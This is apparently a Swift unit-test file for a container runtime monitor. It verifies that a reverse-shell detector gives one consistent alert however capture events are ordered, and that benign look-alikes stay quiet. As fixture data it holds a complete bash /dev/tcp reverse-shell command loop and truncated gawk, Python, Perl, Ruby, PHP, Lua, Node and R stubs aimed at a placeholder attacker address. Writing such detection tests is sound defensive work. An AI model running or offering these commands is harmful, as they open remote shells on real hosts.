// SPDX-License-Identifier: Apache-2.0
// Command loops (an interpreter or shell that reads commands from its connection and runs them with
// the output captured) replayed in every order capture can deliver them: the connect comes from
// audit (late, with its own earlier timestamp), fork/exec/exit from the proc connector, and each
// exec's /proc read may show the image it was exec'd with, the next one (busybox `sh -c id` execs
// `id` at once), only part of it (no parent, no descriptors) or nothing. The verdict must be the
// same every time: one alert, on the same process, with the peer's address and port.
import XCTest
@testable import RuntimeWatchCore
import Metrics

final class ReverseShellCommandLoopOrderTests: XCTestCase {
    private let cid = String(repeating: "ef", count: 32)
    private var cgroup: String { "/kubepods/besteffort/pod0f5e2f1c-7d3a-4c1e-9b8a-1234567890ab/\(cid)" }
    private let attacker = "198.51.100.1"
    private let t0: UInt64 = 1_700_000_000_000_000_000
    private let ms: UInt64 = 1_000_000

    // MARK: - Replay

    /// One event with the time it happened; delivery order is decided separately.
    private struct Timed {
        var at: UInt64
        var event: Event
    }

    /// Runs `records` (in the given delivery order) through the reverse-shell detector, then one
    /// event 5 s after the latest so every grace has passed.
    private func alerts(_ records: [EventRecord]) -> [Alert] {
        let sink = InMemoryAlertSink()
        var engine = Engine(configuration: EngineConfiguration(hostname: "node-1"), detectors: [ReverseShellDetector()],
                            profile: Profile(), sink: sink, metrics: NOOPMetricsHandler.instance)
        for r in records { engine.process(r) }
        let last = records.map(\.timestamp).max() ?? 0
        engine.process(EventRecord(timestamp: last + 5_000_000_000, event: .exit(ExitEvent(pid: ProcessID(99_999), code: 0))))
        engine.finish()
        return sink.alerts.filter { $0.ruleID == "reverse-shell" }
    }

    /// Every delivery of `proc` (proc-connector events, in their own order) with the audit connect
    /// inserted at each position, followed at once by the enrichment's descriptor read of the
    /// connector (`connectorFDs`) and, at each later position, by its re-reads (`rereads`). Reads
    /// are stamped when capture made them (at the connect, and 50 ms after it), however late they
    /// are delivered. A re-read comes after `proc[rereadAfter]` (the fork of the process it reads:
    /// that fork happened before the re-read looked in /proc).
    private func deliveries(setup: [Timed], connect: Timed, connectorFDs: DescriptorsEvent?, rereads: [DescriptorsEvent],
                            rereadAfter: Int = -1, proc: [Timed]) -> [[EventRecord]] {
        var out: [[EventRecord]] = []
        for c in 0...proc.count {
            for r in max(c, rereadAfter + 1)...proc.count {
                var list: [EventRecord] = setup.map { EventRecord(timestamp: $0.at, event: $0.event) }
                func deliver(_ t: Timed) { list.append(EventRecord(timestamp: t.at, event: t.event)) }
                func read(_ d: DescriptorsEvent, at: UInt64) { list.append(EventRecord(timestamp: at, event: .descriptors(d))) }
                for (i, p) in proc.enumerated() {
                    if i == c {
                        deliver(connect)
                        if let connectorFDs { read(connectorFDs, at: connect.at + ms / 2) }
                    }
                    if i == r, i >= c { rereads.forEach { read($0, at: connect.at + 50 * ms) } }
                    deliver(p)
                }
                if c == proc.count {
                    deliver(connect)
                    if let connectorFDs { read(connectorFDs, at: connect.at + ms / 2) }
                }
                if r == proc.count { rereads.forEach { read($0, at: connect.at + 50 * ms) } }
                out.append(list)
            }
        }
        return out
    }

    private func assertSameVerdict(_ runs: [[EventRecord]], pid: Int32, port: UInt16, _ what: String,
                                   file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertFalse(runs.isEmpty)
        for (n, run) in runs.enumerated() {
            let found = alerts(run)
            let order = run.map { "\($0.event.kind)(\($0.event.pid?.rawValue ?? 0))" }.joined(separator: " ")
            XCTAssertEqual(found.count, 1, "\(what) #\(n) [\(order)]: \(found.map(\.output))", file: file, line: line)
            guard let a = found.first else { continue }
            XCTAssertEqual(a.fields["proc.pid"], .int(Int64(pid)), "\(what) #\(n) [\(order)]: \(a.output)", file: file, line: line)
            XCTAssertEqual(a.fields["fd.rip"], .string(attacker), "\(what) #\(n): \(a.output)", file: file, line: line)
            XCTAssertEqual(a.fields["fd.rport"], .int(Int64(port)), "\(what) #\(n): \(a.output)", file: file, line: line)
        }
    }

    // MARK: - Descriptors and reads

    private func pipe(_ n: Int32, _ inode: UInt64) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .pipe, target: "pipe:[\(inode)]", inode: inode) }
    private func file(_ n: Int32, _ path: String) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .file, target: path) }
    private func devnull(_ n: Int32) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .devnull, target: "/dev/null") }
    private func inet(_ n: Int32, _ inode: UInt64, port: UInt16) -> DescriptorInfo {
        DescriptorInfo(fd: n, kind: .socket, target: "socket:[\(inode)]", inode: inode,
                       socket: .init(family: "inet", proto: "tcp", localAddress: "10.244.1.5", localPort: 40_000,
                                     remoteAddress: attacker, remotePort: port, state: "ESTABLISHED"))
    }

    /// What capture's /proc read of an exec returned.
    enum Read: CaseIterable {
        /// The image exec'd, with its descriptors.
        case complete
        /// cmdline, exe and cgroup, then the process was gone: no parent, no descriptors.
        case partial
        /// Gone before the first read: capture emits the pid alone.
        case vanished
        /// Read while exiting: its descriptors closed before they were read (only fd 0 seen, live).
        case descriptorsCut
    }

    private func exec(_ pid: Int32, ppid: Int32, exe: String, argv: [String], fds: [DescriptorInfo], read: Read) -> Event {
        switch read {
        case .complete:
            return .exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), ppid: ProcessID(ppid), comm: argv.first.map(ProgramClassifier.baseName),
                                                      exe: exe, argv: argv, cgroup: cgroup, fds: fds, source: "proc"))
        case .partial:
            return .exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), exe: exe, argv: argv, cgroup: cgroup, source: "partial"))
        case .vanished:
            return .exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), source: "inherited"))
        case .descriptorsCut:
            return .exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), ppid: ProcessID(ppid), comm: argv.first.map(ProgramClassifier.baseName),
                                                      exe: exe, argv: argv, cgroup: cgroup, fds: fds.filter { $0.fd == 0 }, source: "proc"))
        }
    }

    /// The shell (pid 100) that starts the interpreter; it was running when the monitor started.
    private var setup: [Timed] {
        [Timed(at: t0, event: .snapshot(RuntimeWatchCore.ProcessInfo(pid: ProcessID(100), ppid: ProcessID(1), comm: "sh", exe: "/bin/busybox",
                                                                    argv: ["sh"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")],
                                                                    source: "proc")))]
    }

    /// The interpreter as capture reads it, at its exec and again when it connects (audit's connect
    /// carries a read of the process: same start time, so the same incarnation).
    private func interpreterInfo(_ pid: Int32, exe: String, argv: [String]) -> RuntimeWatchCore.ProcessInfo {
        RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), ppid: ProcessID(100), comm: ProgramClassifier.baseName(exe), exe: exe, argv: argv,
                                     cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")], startTicks: 4_242, source: "proc")
    }

    /// The interpreter's fork and exec (proc connector) and its exit 500 ms later, after the loop
    /// served its one command: capture can deliver the connect before the first or after the last.
    private func interpreterLife(_ pid: Int32, exe: String, argv: [String]) -> (start: [Timed], exit: Timed) {
        ([Timed(at: t0 + ms, event: .fork(ForkEvent(parent: ProcessID(100), child: ProcessID(pid)))),
          Timed(at: t0 + 2 * ms, event: .exec(interpreterInfo(pid, exe: exe, argv: argv)))],
         Timed(at: t0 + 500 * ms, event: .exit(ExitEvent(pid: ProcessID(pid), code: 0))))
    }

    /// The audit connect, with the process read that enrichment attaches. Stamped when it happened
    /// (5 ms after the start), or early: audit stamps in milliseconds, from another clock than the
    /// proc connector's (seen 2.6 ms apart live), so a connect made 1 ms after its process was forked
    /// can carry a time before that fork.
    private func connects(_ pid: Int32, exe: String, argv: [String], port: UInt16) -> [Timed] {
        [t0 + 5 * ms, t0 + ms / 2].map { at in
            Timed(at: at, event: .connect(ConnectEvent(pid: ProcessID(pid), proto: "tcp", remoteAddress: attacker, remotePort: port,
                                                       process: interpreterInfo(pid, exe: exe, argv: argv))))
        }
    }

    // MARK: - popen-style loops: the interpreter runs each command with its output on a pipe it holds

    /// A loop family: the interpreter, and the images its command child execs in turn (`sh -c id`
    /// then `id` through a shell; `id` alone when the interpreter runs it without one).
    private struct Family {
        var name: String
        var exe: String
        var argv: [String]
        var images: [(exe: String, argv: [String])]
    }

    private var shellThenId: [(exe: String, argv: [String])] { [("/bin/busybox", ["sh", "-c", "id"]), ("/bin/busybox", ["id"])] }

    private var families: [Family] {
        [Family(name: "gawk /inet", exe: "/usr/bin/gawk", argv: ["gawk", "BEGIN{s=\"/inet/tcp/0/198.51.100.1/4444\";…}"], images: shellThenId),
         Family(name: "python3 subprocess.run(shell=True)", exe: "/usr/bin/python3.11", argv: ["python3", "-c", "import socket,subprocess…"],
                images: shellThenId),
         Family(name: "python3 os.popen", exe: "/usr/bin/python3.11", argv: ["/usr/bin/python3", "-Sc", "import os,socket…"], images: shellThenId),
         Family(name: "perl backticks (shell)", exe: "/usr/bin/perl", argv: ["perl", "-MIO::Socket", "-e", "…print $c `$_`…"], images: shellThenId),
         Family(name: "perl backticks (no shell)", exe: "/usr/bin/perl", argv: ["perl", "-e", "…print $c `$_`…"],
                images: [("/usr/bin/id", ["id"])]),
         Family(name: "ruby IO.popen (no shell)", exe: "/usr/bin/ruby3.1", argv: ["/usr/bin/ruby", "-rsocket", "-e", "…IO.popen(l.chomp)…"],
                images: [("/usr/bin/id", ["id"])]),
         Family(name: "php shell_exec", exe: "/usr/bin/php8.2", argv: ["/usr/bin/php8.2", "-r", "…shell_exec($c)…"], images: shellThenId),
         Family(name: "lua io.popen", exe: "/usr/bin/lua5.4", argv: ["/usr/bin/lua5.4", "-e", "…io.popen(c)…"], images: shellThenId),
         Family(name: "node execSync", exe: "/usr/bin/node", argv: ["/usr/bin/node", "-e", "…cp.execSync(l)…"], images: shellThenId),
         Family(name: "Rscript system()", exe: "/usr/lib/R/bin/exec/R", argv: ["/usr/lib/R/bin/exec/R", "--no-echo", "-e", "…system(l)…"],
                images: shellThenId)]
    }

    /// Each family, each read outcome of each exec, the connect (on time or stamped early) at every
    /// position (before the interpreter's fork, between the command's execs, after the interpreter
    /// exited) and the interpreter's re-read at every later one.
    func testPopenCommandLoopsGiveOneVerdictInEveryOrder() {
        let port: UInt16 = 4444
        for family in families {
            let interpreter: Int32 = 220, child: Int32 = 221
            let outputPipe = pipe(1, 300)
            let life = interpreterLife(interpreter, exe: family.exe, argv: family.argv)
            var readCombos: [[Read]] = [[]]
            for _ in family.images { readCombos = readCombos.flatMap { prefix in Read.allCases.map { prefix + [$0] } } }
            for reads in readCombos {
                var proc = life.start + [Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(interpreter), child: ProcessID(child))))]
                for (i, image) in family.images.enumerated() {
                    proc.append(Timed(at: t0 + UInt64(11 + i) * ms,
                                      event: exec(child, ppid: interpreter, exe: image.exe, argv: image.argv,
                                                  fds: [devnull(0), outputPipe, file(2, "/out")], read: reads[i])))
                }
                proc.append(Timed(at: t0 + 20 * ms, event: .exit(ExitEvent(pid: ProcessID(child), code: 0))))
                proc.append(life.exit)
                // The interpreter keeps its socket above fd 2: its reads show the same stdio.
                let stdio = DescriptorsEvent(pid: ProcessID(interpreter), fds: [devnull(0), file(1, "/out"), file(2, "/out")])
                for connect in connects(interpreter, exe: family.exe, argv: family.argv, port: port) {
                    let runs = deliveries(setup: setup, connect: connect, connectorFDs: stdio, rereads: [stdio], rereadAfter: 1, proc: proc)
                    assertSameVerdict(runs, pid: interpreter, port: port, "\(family.name), reads \(reads), connect at +\((connect.at - t0) / 1000) µs")
                }
            }
        }
    }

    // MARK: - bash read loop over /dev/tcp

    /// `exec 5<>/dev/tcp/H/P; cat <&5 | while read l; do $l 2>&5 >&5; done`: bash (310) connects,
    /// cat (311) reads the socket into a pipe, the loop subshell (312, a fork of bash whose fds only
    /// the enrichment's re-read shows) runs each command (313) with its output on the socket. The
    /// command may be read or gone; the connect and the loop's re-read come at any point.
    func testBashReadLoopGivesOneVerdictInEveryOrder() {
        let port: UInt16 = 4321
        let argv = ["bash", "-c", "exec 5<>/dev/tcp/\(attacker)/\(port); cat <&5 | while read l; do $l 2>&5 >&5; done"]
        let life = interpreterLife(310, exe: "/usr/bin/bash", argv: argv)
        for commandRead in [Read.complete, .vanished, .descriptorsCut] {
            var proc: [Timed] = life.start + [
                Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(310), child: ProcessID(311)))),
                Timed(at: t0 + 11 * ms, event: .fork(ForkEvent(parent: ProcessID(310), child: ProcessID(312)))),
                Timed(at: t0 + 12 * ms, event: exec(311, ppid: 310, exe: "/usr/bin/cat", argv: ["/usr/bin/cat"],
                                                   fds: [inet(0, 95, port: port), pipe(1, 96), file(2, "/out")], read: .complete)),
                Timed(at: t0 + 20 * ms, event: .fork(ForkEvent(parent: ProcessID(312), child: ProcessID(313)))),
                Timed(at: t0 + 21 * ms, event: exec(313, ppid: 312, exe: "/usr/bin/id", argv: ["id"],
                                                   fds: [pipe(0, 96), inet(1, 95, port: port), inet(2, 95, port: port)], read: commandRead)),
                Timed(at: t0 + 22 * ms, event: .exit(ExitEvent(pid: ProcessID(313), code: 0))),
                // The connection closes: cat and the loop end, then bash, which waited for them.
                Timed(at: t0 + 498 * ms, event: .exit(ExitEvent(pid: ProcessID(311), code: 0))),
                Timed(at: t0 + 499 * ms, event: .exit(ExitEvent(pid: ProcessID(312), code: 0))),
                life.exit,
            ]
            proc.sort { $0.at < $1.at }
            // The loop's re-read (from /proc, 50 ms after the connect) comes after its fork.
            let loopFork = proc.firstIndex { if case .fork(let f) = $0.event { return f.child == ProcessID(312) }; return false }!
            let bashStdio = DescriptorsEvent(pid: ProcessID(310), fds: [devnull(0), file(1, "/out"), file(2, "/out")])
            let loop = DescriptorsEvent(pid: ProcessID(312), fds: [pipe(0, 96), file(1, "/out"), file(2, "/out")])
            for connect in connects(310, exe: "/usr/bin/bash", argv: argv, port: port) {
                let runs = deliveries(setup: setup, connect: connect, connectorFDs: bashStdio, rereads: [loop], rereadAfter: loopFork, proc: proc)
                assertSameVerdict(runs, pid: 312, port: port, "bash read loop, command read \(commandRead), connect at +\((connect.at - t0) / 1000) µs")
            }
        }
    }

    // MARK: - Look-alike

    /// A service script (not inline code) that called an API and then runs one `sh -c` with its
    /// output captured, in every order and read outcome: quiet, like a CI runner's job steps.
    func testServiceScriptRunningACapturedCommandAfterAnAPICallIsQuietInEveryOrder() {
        let argv = ["python3", "/app/deploy_hook.py"]
        let life = interpreterLife(220, exe: "/usr/bin/python3.11", argv: argv)
        for reads in Read.allCases.flatMap({ a in Read.allCases.map { [a, $0] } }) {
            var proc = life.start + [Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(220), child: ProcessID(221))))]
            for (i, image) in shellThenId.enumerated() {
                proc.append(Timed(at: t0 + UInt64(11 + i) * ms, event: exec(221, ppid: 220, exe: image.exe, argv: image.argv,
                                                                         fds: [devnull(0), pipe(1, 300), file(2, "/out")], read: reads[i])))
            }
            proc.append(Timed(at: t0 + 20 * ms, event: .exit(ExitEvent(pid: ProcessID(221), code: 0))))
            proc.append(life.exit)
            let stdio = DescriptorsEvent(pid: ProcessID(220), fds: [devnull(0), file(1, "/out"), file(2, "/out")])
            for connect in connects(220, exe: "/usr/bin/python3.11", argv: argv, port: 443) {
                for run in deliveries(setup: setup, connect: connect, connectorFDs: stdio, rereads: [stdio], rereadAfter: 1, proc: proc) {
                    XCTAssertEqual(alerts(run).map(\.output), [], "reads \(reads)")
                }
            }
        }
    }

    /// The same shape without a connection: an inline interpreter that never connected runs `sh -c`
    /// with its output captured, in every read outcome. Quiet.
    func testInlineInterpreterWithoutConnectionIsQuietWhateverTheReads() {
        let life = interpreterLife(220, exe: "/usr/bin/python3", argv: ["python3", "-c", "…"])
        for reads in Read.allCases.flatMap({ a in Read.allCases.map { [a, $0] } }) {
            var records = (setup + life.start).map { EventRecord(timestamp: $0.at, event: $0.event) }
            records.append(EventRecord(timestamp: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(220), child: ProcessID(221)))))
            for (i, image) in shellThenId.enumerated() {
                records.append(EventRecord(timestamp: t0 + UInt64(11 + i) * ms,
                                           event: exec(221, ppid: 220, exe: image.exe, argv: image.argv,
                                                       fds: [devnull(0), pipe(1, 300), file(2, "/out")], read: reads[i])))
            }
            records.append(EventRecord(timestamp: t0 + 20 * ms, event: .exit(ExitEvent(pid: ProcessID(221), code: 0))))
            records.append(EventRecord(timestamp: life.exit.at, event: life.exit.event))
            XCTAssertEqual(alerts(records).map(\.output), [], "reads \(reads)")
        }
    }
}
